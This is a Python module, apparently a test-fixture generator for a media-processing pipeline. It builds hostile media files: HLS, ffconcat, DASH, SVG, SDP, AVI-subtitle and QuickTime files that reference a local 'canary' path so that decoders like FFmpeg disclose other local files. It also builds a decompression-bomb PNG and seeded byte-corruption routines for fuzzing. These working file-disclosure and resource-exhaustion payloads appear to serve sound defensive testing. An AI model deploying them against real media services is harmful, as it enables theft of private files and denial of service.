"""Files made to harm whoever opens them, each named after its attack; and damage done to sound files by a seed."""

from __future__ import annotations

import io
import random
import struct
import zlib
from pathlib import Path


def playlist(canary: Path) -> bytes:
    """An HLS playlist that names another local file: decoders that follow it leak footage of other cases."""
    return b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n" + str(canary).encode() + b"\n#EXT-X-ENDLIST\n"


def concat_script(canary: Path) -> bytes:
    """An ffconcat script that names another local file."""
    return b"ffconcat version 1.0\nfile '" + str(canary).encode() + b"'\n"


def svg(canary: Path) -> bytes:
    """A drawing that embeds another local file."""
    return b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://' + str(canary).encode() + b'"/></svg>'


def dash(canary: Path) -> bytes:
    """A DASH manifest that names another local file."""
    return (
        b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>file://'
        + str(canary).encode()
        + b"</BaseURL></Period></MPD>"
    )


def session_description(_canary: Path) -> bytes:
    """A session description that asks for packets from the network."""
    return b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video 4000 RTP/AVP 96\r\n"


def playlist_behind_a_tag(canary: Path) -> bytes:
    """A playlist behind an empty ID3 tag, which passes for sound at first sight."""
    return b"ID3\x04\x00\x00\x00\x00\x00\x00" + playlist(canary)


def playlist_behind_noise(canary: Path) -> bytes:
    """A playlist behind bytes of no kind."""
    return b"\x00\x01\x02\x03" + playlist(canary)


def subtitle_in_avi(canary: Path) -> bytes:
    """An AVI whose embedded subtitle file (GAB2) is a playlist: FFmpeg opens it as a file within the file."""
    name = b"a\0"
    payload = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name + struct.pack("<H", 4)
    inner = playlist(canary)
    payload += struct.pack("<I", len(inner)) + inner
    picture = struct.pack("<4sI", b"avih", 56) + struct.pack("<14I", 40_000, 0, 0, 0, 1, 0, 1, 0, 64, 48, 0, 0, 0, 0)
    head = struct.pack("<4s4sIHHIIIIIIIIHHHH", b"txts", b"\0\0\0\0", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 0, 0)
    stream = _chunk(b"strh", head) + _chunk(b"strf", b"")
    header = _list(b"hdrl", picture + _list(b"strl", stream))
    movie = _list(b"movi", _chunk(b"00tx", payload))
    body = b"AVI " + header + movie
    return b"RIFF" + struct.pack("<I", len(body)) + body


def elsewhere_in_mov(canary: Path) -> bytes:
    """A QuickTime file whose samples are said to lie in another file (`dref` with an alias to a path)."""
    path = str(canary).encode()
    url = _box(b"url ", b"\0\0\0\0file://" + path + b"\0")
    references = _box(b"dref", b"\0\0\0\0" + struct.pack(">I", 1) + url)
    description = b"\0" * 6 + struct.pack(">H", 1) + b"\0" * 16 + struct.pack(">HH", 64, 48) + b"\0" * 50
    entry = _box(b"raw ", description)
    tables = (
        _box(b"stsd", b"\0\0\0\0" + struct.pack(">I", 1) + entry)
        + _box(b"stts", b"\0\0\0\0" + struct.pack(">III", 1, 1, 1))
        + _box(b"stsc", b"\0\0\0\0" + struct.pack(">IIII", 1, 1, 1, 1))
        + _box(b"stsz", b"\0\0\0\0" + struct.pack(">II", 64 * 48 * 3, 1))
        + _box(b"stco", b"\0\0\0\0" + struct.pack(">II", 1, 0))
    )
    information = _box(b"vmhd", b"\0" * 12) + _box(b"dinf", references) + _box(b"stbl", tables)
    header = _box(b"mdhd", b"\0" * 12 + struct.pack(">IIHH", 25, 1, 0, 0))
    handler = _box(b"hdlr", b"\0" * 4 + b"mhlrvide" + b"\0" * 13)
    track_header = _box(b"tkhd", b"\0\0\0\1" + b"\0" * 8 + struct.pack(">I", 1) + b"\0" * 68)
    track = _box(b"trak", track_header + _box(b"mdia", header + handler + _box(b"minf", information)))
    movie_header = _box(b"mvhd", b"\0" * 12 + struct.pack(">II", 25, 1) + b"\0" * 80)
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", movie_header + track)


ATTACKS = (
    playlist,
    concat_script,
    svg,
    dash,
    session_description,
    playlist_behind_a_tag,
    playlist_behind_noise,
    subtitle_in_avi,
    elsewhere_in_mov,
)


def vast_png(side_px: int, *, bit_depth: int = 1) -> bytes:
    """A picture of `side_px` squared in a few kilobytes: grey, all alike."""
    row = bytes(1 + (side_px * bit_depth + 7) // 8)
    packer = zlib.compressobj(9)
    packed = io.BytesIO()
    for _ in range(side_px):
        packed.write(packer.compress(row))
    packed.write(packer.flush())
    head = struct.pack(">IIBBBBB", side_px, side_px, bit_depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _part(b"IHDR", head) + _part(b"IDAT", packed.getvalue()) + _part(b"IEND", b"")


def damaged(whole: bytes, seed: int) -> bytes:
    """The bytes with one kind of damage or several, all decided by the seed."""
    chance = random.Random(seed)
    broken = bytearray(whole)
    for _ in range(chance.choice([1, 1, 2, 4])):
        _DAMAGE[chance.randrange(len(_DAMAGE))](broken, chance)
    return bytes(broken)


def _flip(broken: bytearray, chance: random.Random) -> None:
    for _ in range(chance.randint(1, 30)):
        broken[chance.randrange(len(broken))] ^= 1 << chance.randrange(8)


def _cut(broken: bytearray, chance: random.Random) -> None:
    del broken[chance.randint(16, max(17, len(broken) - 1)) :]


def _erase(broken: bytearray, chance: random.Random) -> None:
    start = chance.randrange(len(broken))
    stretch = min(chance.randint(1, 400), len(broken) - start)
    broken[start : start + stretch] = bytes(stretch)


def _scramble(broken: bytearray, chance: random.Random) -> None:
    start = chance.randrange(len(broken))
    stretch = min(chance.randint(1, 200), len(broken) - start)
    broken[start : start + stretch] = chance.randbytes(stretch)


def _repeat(broken: bytearray, chance: random.Random) -> None:
    start = chance.randrange(len(broken))
    piece = broken[start : start + chance.randint(1, 500)]
    broken[start:start] = piece * chance.randint(1, 4)


def _wrong_number(broken: bytearray, chance: random.Random) -> None:
    # Lengths, counts and offsets are where parsers trust: the first part of a file has most of them.
    start = chance.randrange(max(1, min(len(broken), 4096) - 8))
    value = chance.choice([0, 1, 7, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF, len(broken), len(broken) + 1])
    broken[start : start + 4] = struct.pack(chance.choice(["<I", ">I"]), value)


_DAMAGE = (_flip, _cut, _erase, _scramble, _repeat, _wrong_number)


def _chunk(name: bytes, data: bytes) -> bytes:
    return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)


def _list(name: bytes, data: bytes) -> bytes:
    return b"LIST" + struct.pack("<I", len(data) + 4) + name + data


def _box(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + name + data


def _part(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
